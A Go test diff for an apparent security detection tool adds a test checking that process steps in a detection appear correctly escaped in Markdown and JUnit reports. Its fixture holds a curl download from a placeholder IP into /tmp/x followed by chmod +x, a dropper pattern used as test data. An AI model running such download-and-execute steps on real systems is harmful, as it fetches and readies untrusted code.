@@ -91,6 +91,24 @@ func TestReportFromTheExportersLines(t *testing.T) {
 	require.Equal(t, map[recipe.Importance]uint64{recipe.High: 2, recipe.Low: 1, recipe.Critical: 1}, counts)
 }
 
+// TestSequenceStepsInEveryFormat follows a sequence recipe's earlier
+// steps from the exporter's lines into the report and its formats.
+func TestSequenceStepsInEveryFormat(t *testing.T) {
+	d := sample(0)
+	d.Steps = []recipe.Step{
+		{PID: 990, Exe: "/usr/bin/curl", Args: []string{"curl", "-so", "/tmp/x", "https://203.0.113.7/</pre>"}},
+		{PID: 991, Exe: "/usr/bin/chmod", Args: []string{"chmod", "+x", "/tmp/x"}},
+	}
+	rep := exported(t, d)
+	require.Equal(t, []string{"990 curl -so /tmp/x https://203.0.113.7/</pre>", "991 chmod +x /tmp/x"}, rep.Detections[0].Steps)
+
+	var md, junit bytes.Buffer
+	require.NoError(t, rep.WriteMarkdown(&md))
+	require.Contains(t, md.String(), "After these steps, oldest first:\n\n<pre>\n990 curl -so /tmp/x https://203.0.113.7/&lt;/pre&gt;\n991 chmod +x /tmp/x\n</pre>")
+	require.NoError(t, rep.WriteJUnit(&junit))
+	require.Contains(t, junit.String(), "&#xA;  after 991 chmod +x /tmp/x&#xA;")
+}
+
 func TestJSONRoundTrips(t *testing.T) {
 	rep := exported(t, sample(0), sample(1), sample(2))
 	code, execs := 2, uint64(41)
